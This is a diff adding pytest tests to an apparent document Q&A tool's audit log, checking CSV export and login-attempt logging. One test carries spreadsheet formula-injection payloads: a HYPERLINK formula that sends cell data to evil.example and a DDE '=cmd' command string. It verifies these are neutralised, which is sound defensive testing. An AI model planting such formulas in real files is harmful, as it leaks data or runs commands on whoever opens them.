@@ -98,3 +98,27 @@ def test_csv_export_gives_times_in_the_bureaus_time_zone(tmp_path: Path) -> None
         with open(path, encoding="utf-8-sig", newline="") as f:
             header, row = list(csv.reader(f))
         assert dict(zip(header, row))["时间"] == shown
+
+
+def test_formula_payloads_from_documents_or_users_are_neutralised_in_the_csv(tmp_path: Path) -> None:
+    log = audit_log(Settings(home=tmp_path))
+    payload = '=HYPERLINK("http://evil.example/?q="&A1,"点击查看")'
+    answer = Answer(payload, payload, "=cmd|' /C calc'!A0", [], "extractive")
+    log.record(FIRM, "+conv", ["default"], answer)
+    path = log.export_csv(tmp_path / "问答记录.csv")
+    with open(path, encoding="utf-8-sig", newline="") as f:
+        header, row = list(csv.reader(f))
+    record = dict(zip(header, row))
+    assert record["问题"] == "'" + payload  # Excel and WPS show it as text, never run it
+    assert record["回答"] == "'=cmd|' /C calc'!A0"
+    assert record["会话"] == "'+conv"
+    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row)
+
+
+def test_login_attempts_are_logged(tmp_path: Path) -> None:
+    log = audit_log(Settings(home=tmp_path))
+    log.login_event("示范企业", "10.0.0.7", "failed")
+    log.login_event("示范企业", "10.0.0.7", "refused")
+    assert [(e.user, e.address, e.outcome) for e in log.login_events()] == [
+        ("示范企业", "10.0.0.7", "failed"), ("示范企业", "10.0.0.7", "refused"),
+    ]  # fmt: skip
